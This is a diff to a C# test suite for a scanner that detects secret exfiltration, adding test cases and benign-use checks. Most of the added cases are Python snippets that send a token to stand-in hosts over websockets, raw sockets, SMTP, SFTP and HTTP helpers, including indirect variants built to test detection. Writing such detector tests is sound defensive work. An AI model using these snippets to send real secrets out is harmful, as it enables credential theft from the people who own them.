@@ -27,6 +27,14 @@ public sealed class ExfilRuleTests
     [InlineData("import paramiko\nc = paramiko.SSHClient()\nc.exec_command('echo ' + token)")]
     [InlineData("import webbrowser\nwebbrowser.open('https://x.example.com/?k=' + token)")]
     [InlineData("import requests as r\nsend = r.post\nsend('https://x.example.com', data=token)")]
+    [InlineData("import websockets\nasync def f():\n    async with websockets.connect('wss://x.example.com/?t=' + token) as ws:\n        pass")]
+    [InlineData("import xmlrpc.client\nxmlrpc.client.ServerProxy(f'https://u:{token}@x.example.com/rpc')")]
+    [InlineData("import socket\nc = socket.create_connection(('x.example.com', 443))\nc.sendall(token.encode())")]
+    [InlineData("import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(token)\nsmtplib.SMTP('mail.example.com').send_message(m)")]
+    [InlineData("import paramiko, io\nsftp = paramiko.SSHClient().open_sftp()\nsftp.putfo(io.BytesIO(token.encode()), '/tmp/t')")]
+    [InlineData("import requests\ndef push(session, body):\n    session.post('https://x.example.com', data=body)\npush(requests.Session(), token)")]
+    [InlineData("import requests\ndef push(http, body):\n    http.post('https://x.example.com', data=body)\npush(requests, token)")]
+    [InlineData("import socket\nclass C:\n    def __init__(self):\n        self.s = socket.socket()\n    def send(self, v):\n        self.s.sendall(v.encode())\nC().send(token)")]
     public void SensitiveDataSentOverTheNetworkIsBlocked(string sink)
     {
         var result = TestScanner.Scan(Token + sink);
@@ -227,6 +235,20 @@ public sealed class ExfilRuleTests
         result.Findings.Where(f => f.Category == RuleCategory.Exfil).ShouldBeEmpty();
         result.Verdict.ShouldBe(Verdict.Allow);
     }
+
+    [Fact]
+    public void ASessionPassedToAHelperForPublicDataIsOnlyNetworkUse()
+    {
+        var code = "import requests\ndef fetch(session, page):\n    return session.get('https://api.example.com/items', params={'page': page}).json()\n" +
+            "with requests.Session() as s:\n    print(fetch(s, 1))";
+        TestScanner.RuleIds(code).ShouldBe(["PG605"]);
+    }
+
+    [Theory]
+    [InlineData("import os\ndef read(cfg, key):\n    return cfg.get(key)\nprint(read(dict(os.environ), 'LOG_LEVEL'))")]
+    [InlineData("import os\nclass Store:\n    def __init__(self):\n        self.items = {}\n    def put(self, k, v):\n        self.items.update({k: v})\nStore().put('k', os.environ['K'])")]
+    public void MethodsOfPlainObjectsAreNotNetworkCalls(string code) =>
+        TestScanner.Findings(code).Where(f => f.Category == RuleCategory.Exfil).ShouldBeEmpty();
 
     [Fact]
     public void APublicApiCallWithoutSecretsIsOnlyNetworkUse()
